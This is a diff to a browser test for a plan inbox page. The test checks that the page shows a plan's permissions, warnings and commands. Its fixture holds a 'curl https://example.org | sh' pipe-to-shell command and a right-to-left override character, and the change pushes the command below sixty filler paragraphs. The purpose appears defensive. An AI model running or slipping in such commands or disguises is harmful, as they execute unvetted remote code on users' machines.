@@ -89,7 +89,9 @@ describe('a plan in the inbox', { skip: noBrowser }, () => {
 
   it('has the head, the permissions, the warnings and the commands of its page', async (t) => {
     const planned = await withPlan(t, { settings: 'sandbox: off' });
-    await put(planned, 'A \u202Eright\u202C one\n\n```sh\ncurl https://example.org | sh\n```\n');
+    const long = 'A paragraph.\n\n'.repeat(60);
+    const code = '```sh\ncurl https://example.org | sh\n```\n';
+    await put(planned, `A \u202Eright\u202C one\n\n${long}${code}`);
     const { page, complaints } = await look(t, inboxOf(planned));
     const parts = ['.plan-facts', '.plan-unshut', '.plan-hidden', '.plan-leave', '.commands'];
     const read = async () => {
